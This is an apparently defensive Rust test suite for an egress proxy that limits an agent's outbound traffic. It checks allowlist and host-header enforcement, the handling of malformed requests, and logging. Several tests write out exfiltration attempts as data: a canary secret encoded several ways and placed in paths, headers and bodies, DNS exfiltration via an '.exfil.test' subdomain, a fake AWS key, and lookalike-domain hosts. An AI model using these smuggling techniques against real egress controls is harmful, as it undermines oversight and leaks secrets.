//! The egress proxy in-process on loopback, against an upstream server the test starts: what it
//! lets through, what it refuses, and that it keeps serving after every refusal.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bottle_core::allowlist::Allowlist;
use bottle_sidecars::egress::{self, Config, Event, EventKind, Verdict};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::time::timeout;

const IO_TIMEOUT: Duration = Duration::from_secs(5);

/// A plain HTTP server on 127.0.0.1 that counts connections and remembers each request head.
struct Upstream {
    port: u16,
    hits: Arc<AtomicUsize>,
    heads: Arc<Mutex<Vec<String>>>,
}

impl Upstream {
    async fn start() -> Upstream {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let heads = Arc::new(Mutex::new(Vec::new()));
        let (h, r) = (hits.clone(), heads.clone());
        tokio::spawn(async move {
            loop {
                let (mut s, _) = listener.accept().await.unwrap();
                h.fetch_add(1, Ordering::SeqCst);
                let r = r.clone();
                tokio::spawn(async move {
                    let head = read_head(&mut s).await;
                    r.lock().unwrap().push(head);
                    let body = "hello from upstream";
                    let resp = format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                    let _ = s.write_all(resp.as_bytes()).await;
                    let _ = s.shutdown().await;
                });
            }
        });
        Upstream { port, hits, heads }
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

type Log = Arc<Mutex<Vec<Event>>>;

/// Starts a proxy on 127.0.0.1 with `allow`, collecting its decisions.
async fn proxy(allow: &str) -> (SocketAddr, Log) {
    proxy_with(Config::new(Allowlist::parse(allow).unwrap())).await
}

/// Starts a proxy on 127.0.0.1 with `config`, collecting its log.
async fn proxy_with(config: Config) -> (SocketAddr, Log) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let log: Log = Arc::default();
    let sink = log.clone();
    tokio::spawn(egress::serve_with_log(
        listener,
        config,
        Arc::new(move |e| sink.lock().unwrap().push(e)),
    ));
    (addr, log)
}

/// Reads up to the end of a message head (or EOF).
async fn read_head(s: &mut TcpStream) -> String {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match timeout(IO_TIMEOUT, s.read(&mut byte))
            .await
            .expect("head in time")
        {
            Ok(1) => head.push(byte[0]),
            _ => break,
        }
    }
    String::from_utf8_lossy(&head).into_owned()
}

/// Reads one response: its status and body (by Content-Length; none means empty).
async fn read_response(s: &mut TcpStream) -> (u16, String) {
    let head = read_head(s).await;
    let status = head
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status line in {head:?}"));
    let len: usize = head
        .lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("content-length")
                .then(|| v.trim().parse().unwrap())
        })
        .unwrap_or(0);
    let mut body = vec![0u8; len];
    timeout(IO_TIMEOUT, s.read_exact(&mut body))
        .await
        .expect("body in time")
        .unwrap();
    (status, String::from_utf8_lossy(&body).into_owned())
}

/// Sends `request` to the proxy and returns the status and body; a successful CONNECT is
/// followed by a GET through the tunnel, whose status and body are returned instead.
async fn send(proxy: SocketAddr, request: &[u8], up: u16) -> (u16, String) {
    let mut s = TcpStream::connect(proxy).await.unwrap();
    s.write_all(request).await.unwrap();
    let (status, body) = read_response(&mut s).await;
    if !request.starts_with(b"CONNECT") || status != 200 {
        return (status, body);
    }
    let get = format!("GET /tunnelled HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n");
    s.write_all(get.as_bytes()).await.unwrap();
    read_response(&mut s).await
}

/// One case: a proxy with `allow` gets `request` (`{up}` is the upstream's port); expect
/// `status`, `hits` new upstream connections, and a proxy that still serves a good request after.
#[track_caller]
fn check(allow: &str, request: &str, status: u16, hits: usize) {
    let caller = std::panic::Location::caller();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async {
        let upstream = Upstream::start().await;
        let up = upstream.port;
        let allow = allow.replace("{up}", &up.to_string());
        let request = request.replace("{up}", &up.to_string());
        let (addr, log) = proxy(&format!("{allow},127.0.0.1:{up}")).await;

        let shown: String = request.chars().take(160).collect();
        let (got, body) = send(addr, request.as_bytes(), up).await;
        assert_eq!(got, status, "{caller}: {shown:?} -> {body}");
        if status == 200 {
            assert_eq!(body, "hello from upstream", "{caller}");
        }
        if status == 403 {
            assert!(
                body.contains("egress_allow") || body.contains("Host header"),
                "{body}"
            );
        }
        assert_eq!(upstream.hits(), hits, "{caller}: upstream connections");

        let good = format!("GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n");
        let (after, _) = send(addr, good.as_bytes(), up).await;
        assert_eq!(
            after, 200,
            "{caller}: the proxy stopped serving after {request:?}"
        );
        drop(log);
    });
}

#[test]
fn allowed_requests_reach_the_upstream() {
    let get = "GET http://127.0.0.1:{up}/a HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n";
    check("", get, 200, 1);
    let connect = "CONNECT 127.0.0.1:{up} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n";
    check("", connect, 200, 1);
    // An IP literal is allowed only when listed exactly.
    let ip = "GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n";
    check("127.0.0.1:{up}", ip, 200, 1);
    check(
        "127.0.0.1:{up}",
        "CONNECT 127.0.0.1:{up} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n",
        200,
        1,
    );
    // Any spelling of the address is the address: trailing dot, hex, one number.
    check(
        "",
        "GET http://127.0.0.1.:{up}/ HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n",
        200,
        1,
    );
    check(
        "",
        "GET http://0x7f000001:{up}/ HTTP/1.1\r\nHost: 2130706433:{up}\r\n\r\n",
        200,
        1,
    );
    // HTTP/1.0 may omit Host; the target then speaks for itself.
    check("", "GET http://127.0.0.1:{up}/ HTTP/1.0\r\n\r\n", 200, 1);
}

#[test]
fn denied_requests_never_reach_the_upstream() {
    // An unlisted address, by plain HTTP and by CONNECT, and a listed one on another port.
    check(
        "",
        "GET http://127.0.0.2:{up}/ HTTP/1.1\r\nHost: 127.0.0.2:{up}\r\n\r\n",
        403,
        0,
    );
    check(
        "",
        "CONNECT 127.0.0.2:{up} HTTP/1.1\r\nHost: 127.0.0.2:{up}\r\n\r\n",
        403,
        0,
    );
    check(
        "127.0.0.2:1",
        "CONNECT 127.0.0.2:{up} HTTP/1.1\r\nHost: 127.0.0.2:{up}\r\n\r\n",
        403,
        0,
    );
    // Hosts that merely look like an allowed suffix.
    check(
        "*.suffix.test",
        "CONNECT evilsuffix.test:443 HTTP/1.1\r\nHost: evilsuffix.test:443\r\n\r\n",
        403,
        0,
    );
    check(
        "*.suffix.test",
        "CONNECT suffix.test:443 HTTP/1.1\r\nHost: suffix.test:443\r\n\r\n",
        403,
        0,
    );
    check(
        "allowed.test",
        "CONNECT allowed.test.evil.test:443 HTTP/1.1\r\nHost: allowed.test.evil.test:443\r\n\r\n",
        403,
        0,
    );
    check(
        "allowed.test:443",
        "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        403,
        0,
    );
}

#[test]
fn a_host_header_that_differs_from_the_target_is_denied() {
    check(
        "",
        "GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        403,
        0,
    );
    check(
        "",
        "GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        403,
        0,
    );
    check(
        "",
        "GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        403,
        0,
    );
    check(
        "",
        "CONNECT 127.0.0.1:{up} HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
        403,
        0,
    );
    check(
        "127.0.0.2:{up}",
        "GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: 127.0.0.2:{up}\r\n\r\n",
        403,
        0,
    );
}

#[test]
fn malformed_requests_get_a_4xx_and_the_proxy_keeps_serving() {
    check("", "\x00\x01\x02 garbage\r\n\r\n", 400, 0);
    check("", "GET http://127.0.0.1:{up}/ HTTP/1.1\r\n\r\n", 400, 0);
    check("", "CONNECT 127.0.0.1:{up} HTTP/1.1\r\n\r\n", 400, 0);
    check("", "GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nHost: 127.0.0.1:{up}\r\n\r\n", 400, 0);
    check(
        "",
        "CONNECT 127.0.0.1 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        400,
        0,
    );
    check("", "GET / HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n", 400, 0);
    check(
        "",
        "GET https://127.0.0.1:{up}/ HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n",
        400,
        0,
    );
    check(
        "",
        "GET http://user@127.0.0.1:{up}/ HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n",
        400,
        0,
    );
    // Oversized headers are refused with 431 (Request Header Fields Too Large), hyper's answer.
    let big = format!(
        "GET http://127.0.0.1:{{up}}/ HTTP/1.1\r\nHost: 127.0.0.1:{{up}}\r\nX-Big: {}\r\n\r\n",
        "a".repeat(egress::MAX_HEAD_BYTES + 1024)
    );
    check("", &big, 431, 0);
}

#[tokio::test]
async fn plain_http_is_sent_in_origin_form_without_hop_by_hop_headers() {
    let upstream = Upstream::start().await;
    let up = upstream.port;
    let (addr, _) = proxy(&format!("127.0.0.1:{up}")).await;
    let req = format!(
        "GET http://127.0.0.1:{up}/p?q=1 HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\
         Proxy-Authorization: Basic c2VjcmV0\r\nConnection: keep-alive, X-Hop\r\nX-Hop: 1\r\n\
         X-Kept: 2\r\n\r\n"
    );
    let (status, _) = send(addr, req.as_bytes(), up).await;
    assert_eq!(status, 200);
    let head = upstream.heads.lock().unwrap()[0].to_ascii_lowercase();
    assert!(head.starts_with("get /p?q=1 http/1.1\r\n"), "{head}");
    assert!(
        head.contains(&format!("host: 127.0.0.1:{up}\r\n")),
        "{head}"
    );
    assert!(head.contains("x-kept: 2\r\n"), "{head}");
    for gone in ["proxy-authorization", "x-hop", "keep-alive"] {
        assert!(!head.contains(gone), "{gone} reached the upstream: {head}");
    }
}

/// Waits until the log holds `n` lines of `kind` (an exchange's close line comes when it ends).
async fn lines(log: &Log, kind: EventKind, n: usize) -> Vec<Event> {
    let of_kind = || -> Vec<Event> {
        let all = log.lock().unwrap();
        all.iter().filter(|e| e.kind == kind).cloned().collect()
    };
    for _ in 0..200 {
        if of_kind().len() >= n {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    of_kind()
}

#[tokio::test]
async fn every_decision_and_every_end_is_logged() {
    let upstream = Upstream::start().await;
    let up = upstream.port;
    let (addr, log) = proxy(&format!("127.0.0.1:{up}")).await;
    let connect = format!("CONNECT 127.0.0.1:{up} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n");
    assert_eq!(send(addr, connect.as_bytes(), up).await.0, 200);
    let get = format!("GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n");
    assert_eq!(send(addr, get.as_bytes(), up).await.0, 200);
    let denied = "CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n\r\n";
    let (status, body) = send(addr, denied.as_bytes(), up).await;
    assert_eq!(status, 403);
    assert!(body.contains("denied.test:443"), "{body}");
    assert!(body.contains("egress_allow"), "{body}");

    let mut decided = lines(&log, EventKind::Decision, 3).await;
    decided.sort_by_key(|d| (d.method.clone(), d.host.clone()));
    let summary: Vec<_> = decided
        .iter()
        .map(|d| {
            (
                d.method.as_str(),
                d.host.as_str(),
                d.port,
                d.verdict,
                d.status,
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            (
                "CONNECT",
                "127.0.0.1",
                up,
                Some(Verdict::Allowed),
                Some(200)
            ),
            (
                "CONNECT",
                "denied.test",
                443,
                Some(Verdict::Denied),
                Some(403)
            ),
            ("GET", "127.0.0.1", up, Some(Verdict::Allowed), None),
        ]
    );
    assert_eq!(decided[1].reason.as_deref(), Some("not in allowlist"));
    for d in [&decided[0], &decided[2]] {
        assert_eq!(
            d.addr,
            Some(format!("127.0.0.1:{up}").parse().unwrap()),
            "{d:?}"
        );
    }
    // The allowed two end, each with one close line carrying what moved.
    let closed = lines(&log, EventKind::Close, 2).await;
    assert_eq!(closed.len(), 2, "{closed:?}");
    for c in &closed {
        assert!(
            c.bytes_down.unwrap() > 0 && c.duration_ms.is_some(),
            "{c:?}"
        );
        assert_eq!(c.status, Some(200), "{c:?}");
    }
    let tunnel = closed.iter().find(|c| c.method == "CONNECT").unwrap();
    assert!(tunnel.bytes_up.unwrap() > 0, "{tunnel:?}");
    let line: serde_json::Value = serde_json::from_str(&decided[1].to_json(0)).unwrap();
    assert_eq!(line["decision"], "denied");
    assert_eq!(line["event"], "decision");
    assert_eq!(line["host"], "denied.test");
}

#[tokio::test]
async fn an_allowed_but_unreachable_upstream_is_a_502() {
    // A port nothing listens on: bind, note it, close.
    let port = TcpListener::bind("127.0.0.1:0")
        .await
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let (addr, log) = proxy(&format!("127.0.0.1:{port}")).await;
    let get = format!("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n");
    let (status, body) = send(addr, get.as_bytes(), port).await;
    assert_eq!(status, 502, "{body}");
    assert!(body.contains("is allowed but"), "{body}");
    let got = lines(&log, EventKind::Decision, 1).await;
    assert_eq!(got.len(), 1, "one line per decision: {got:?}");
    assert_eq!(
        (got[0].verdict, got[0].status),
        (Some(Verdict::Allowed), Some(502))
    );
}

/// The value of the secret the smuggling cases try to carry out.
const CANARY: &str = "canary-Zq8wX3vR7pL2";

fn encodings(value: &str) -> Vec<(&'static str, String)> {
    const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let b64 = |bytes: &[u8]| -> String {
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let b = [
                chunk[0],
                *chunk.get(1).unwrap_or(&0),
                *chunk.get(2).unwrap_or(&0),
            ];
            let n = u32::from(b[0]) << 16 | u32::from(b[1]) << 8 | u32::from(b[2]);
            for i in 0..4 {
                out.push(if i <= chunk.len() {
                    B64[(n >> (18 - 6 * i) & 63) as usize] as char
                } else {
                    '='
                });
            }
        }
        out
    };
    vec![
        ("raw", value.to_string()),
        (
            "URL-encoded",
            value.bytes().map(|b| format!("%{b:02x}")).collect(),
        ),
        ("hex", value.bytes().map(|b| format!("{b:02X}")).collect()),
        ("base64", b64(format!("user:{value}").as_bytes())),
        (
            "base64url",
            b64(format!("ab{value}").as_bytes())
                .replace('+', "-")
                .replace('/', "_"),
        ),
    ]
}

/// A request that carries the bottle's secret (or a near miss of it) in each place and
/// encoding: refused with 403 and nothing reaching the upstream; the near miss goes through.
#[tokio::test]
async fn a_request_carrying_a_secret_is_refused_before_it_leaves() {
    let upstream = Upstream::start().await;
    let up = upstream.port;
    let allow = format!("127.0.0.1:{up}, *.exfil.test");
    let mut config = Config::new(Allowlist::parse(&allow).unwrap());
    config.scanner = bottle_sidecars::leak::Scanner::new([("API_TOKEN", CANARY)]);
    let (addr, log) = proxy_with(config).await;
    let mut near = CANARY.to_string();
    near.replace_range(8..9, "Y");
    for (value, refused) in [(CANARY, true), (near.as_str(), false)] {
        for (encoding, text) in encodings(value) {
            let get = |path: &str, extra: &str, body: &str| {
                format!(
                    "POST http://127.0.0.1:{up}{path} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n{extra}\
                     Content-Length: {}\r\n\r\n{body}",
                    body.len()
                )
            };
            let chunked = {
                let (a, b) = text.split_at(text.len() / 2);
                format!(
                    "POST http://127.0.0.1:{up}/c HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\
                     Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{a}\r\n{:x}\r\n{b}\r\n0\r\n\r\n",
                    a.len(),
                    b.len()
                )
            };
            let cases = [
                ("path", get(&format!("/p/{text}"), "", "")),
                ("query", get(&format!("/q?k={text}"), "", "")),
                ("header", get("/h", &format!("X-Note: {text}\r\n"), "")),
                ("body", get("/b", "", &format!("data={text}&x=1"))),
                ("chunked body", chunked),
            ];
            for (place, request) in cases {
                let before = upstream.hits();
                let (status, body) = send(addr, request.as_bytes(), up).await;
                let what = format!("{encoding} value in the {place} (refused: {refused})");
                if refused {
                    assert_eq!(status, 403, "{what}: {body}");
                    assert!(body.contains("API_TOKEN"), "{what}: {body}");
                    assert!(
                        !body.contains(CANARY),
                        "{what}: the refusal shows the value"
                    );
                    assert_eq!(upstream.hits(), before, "{what}: the upstream was reached");
                } else {
                    assert_eq!(status, 200, "{what}: {body}");
                }
            }
        }
    }
    // A CONNECT whose target carries the secret (DNS exfiltration under a wildcard) is refused
    // before any lookup.
    let connect = format!(
        "CONNECT {CANARY}.exfil.test:443 HTTP/1.1\r\nHost: {CANARY}.exfil.test:443\r\n\r\n"
    );
    let (status, body) = send(addr, connect.as_bytes(), up).await;
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("in the target"), "{body}");
    let lines = log.lock().unwrap().clone();
    let denied: Vec<&Event> = lines
        .iter()
        .filter(|e| e.verdict == Some(Verdict::Denied))
        .collect();
    assert_eq!(denied.len(), 26, "one denial per smuggling attempt");
    for e in denied {
        let line = e.to_json(0);
        assert!(line.contains("secret API_TOKEN"), "{line}");
        let lower = line.to_ascii_lowercase();
        assert!(
            !lower.contains(&CANARY.to_ascii_lowercase()),
            "the log shows the value: {line}"
        );
    }
}

#[tokio::test]
async fn a_well_known_credential_format_is_refused() {
    let upstream = Upstream::start().await;
    let up = upstream.port;
    let (addr, _) = proxy(&format!("127.0.0.1:{up}")).await;
    let key = "AKIAZ7Q2X4W5V6B7N8M9";
    let req =
        format!("GET http://127.0.0.1:{up}/?id={key} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n");
    let (status, body) = send(addr, req.as_bytes(), up).await;
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("aws-access-key-id"), "{body}");
    assert_eq!(upstream.hits(), 0);
}

/// Whatever the agent puts a secret in, the log withholds it: a refused target, a Host header,
/// a malformed port, all quoted in reasons.
#[tokio::test]
async fn the_log_never_holds_a_secret_the_agent_sent() {
    let upstream = Upstream::start().await;
    let up = upstream.port;
    let mut config = Config::new(Allowlist::parse(&format!("127.0.0.1:{up}")).unwrap());
    config.scanner = bottle_sidecars::leak::Scanner::new([("API_TOKEN", CANARY)]);
    let (addr, log) = proxy_with(config).await;
    let lower = CANARY.to_ascii_lowercase();
    for request in [
        format!(
            "CONNECT {CANARY}.denied.test:443 HTTP/1.1\r\nHost: {CANARY}.denied.test:443\r\n\r\n"
        ),
        format!("CONNECT {lower}.denied.test:99999 HTTP/1.1\r\nHost: x\r\n\r\n"),
        format!("GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: {CANARY}.test\r\n\r\n"),
        format!("GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: {CANARY}\x01\r\n\r\n"),
    ] {
        let (status, _) = send(addr, request.as_bytes(), up).await;
        assert!((400..500).contains(&status), "{request:?}: {status}");
    }
    assert_eq!(upstream.hits(), 0);
    let lines = log.lock().unwrap().clone();
    assert!(lines.len() >= 3, "{lines:?}");
    for e in lines {
        let line = e.to_json(0).to_ascii_lowercase();
        assert!(!line.contains(&lower), "the log shows the value: {line}");
    }
}

/// A rule marked `/tls` holds its tunnels to TLS like port 443: plain bytes close the tunnel
/// before any reach the upstream, and the close line says why.
#[tokio::test]
async fn a_port_a_rule_marks_tls_must_carry_tls() {
    let upstream = Upstream::start().await;
    let up = upstream.port;
    let (addr, log) = proxy(&format!("127.0.0.1:{up}/tls")).await;
    let mut s = TcpStream::connect(addr).await.unwrap();
    let connect = format!("CONNECT 127.0.0.1:{up} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n");
    s.write_all(connect.as_bytes()).await.unwrap();
    let (status, _) = read_response(&mut s).await;
    assert_eq!(status, 200);
    s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let mut rest = Vec::new();
    let n = timeout(IO_TIMEOUT, s.read_to_end(&mut rest))
        .await
        .expect("the tunnel is closed")
        .unwrap();
    assert_eq!(
        n,
        0,
        "the tunnel answered: {:?}",
        String::from_utf8_lossy(&rest)
    );
    let closed = lines(&log, EventKind::Close, 1).await;
    assert!(
        closed[0]
            .reason
            .as_deref()
            .unwrap_or("")
            .contains("not a TLS ClientHello"),
        "{closed:?}"
    );
    assert_eq!(closed[0].bytes_up, Some(0), "{closed:?}");
    assert!(
        upstream.heads.lock().unwrap().is_empty(),
        "bytes reached the upstream"
    );
}

/// Requests to one target from new client connections reuse an idle upstream connection
/// (once the previous response was read to its end) instead of opening one each.
#[tokio::test]
async fn upstream_connections_are_reused_across_client_connections() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = listener.local_addr().unwrap().port();
    let conns = Arc::new(AtomicUsize::new(0));
    let counted = conns.clone();
    tokio::spawn(async move {
        loop {
            let (mut s, _) = listener.accept().await.unwrap();
            counted.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                // Keep-alive: answer every request head on the connection.
                loop {
                    let head = read_head(&mut s).await;
                    if head.is_empty() {
                        return;
                    }
                    let ok = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
                    if s.write_all(ok).await.is_err() {
                        return;
                    }
                }
            });
        }
    });
    let (addr, _) = proxy(&format!("127.0.0.1:{up}")).await;
    for i in 0..5 {
        let get = format!(
            "GET http://127.0.0.1:{up}/{i} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nConnection: close\r\n\r\n"
        );
        let (status, body) = send(addr, get.as_bytes(), up).await;
        assert_eq!((status, body.as_str()), (200, "ok"));
    }
    assert_eq!(
        conns.load(Ordering::SeqCst),
        1,
        "one upstream connection for five clients"
    );
}

/// An upstream that closes each connection right after answering, without saying so: a pooled
/// connection may be dead when the next request takes it, and that request must still get
/// through (on a new connection), never a 502.
#[tokio::test]
async fn a_pooled_connection_the_upstream_closed_is_replaced() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        loop {
            let (mut s, _) = listener.accept().await.unwrap();
            tokio::spawn(async move {
                let _ = read_head(&mut s).await;
                let _ = s
                    .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
                    .await;
                let _ = s.shutdown().await;
            });
        }
    });
    let (addr, _) = proxy(&format!("127.0.0.1:{up}")).await;
    for i in 0..20 {
        let get = format!(
            "GET http://127.0.0.1:{up}/{i} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nConnection: close\r\n\r\n"
        );
        let (status, body) = send(addr, get.as_bytes(), up).await;
        assert_eq!((status, body.as_str()), (200, "ok"), "request {i}");
    }
}
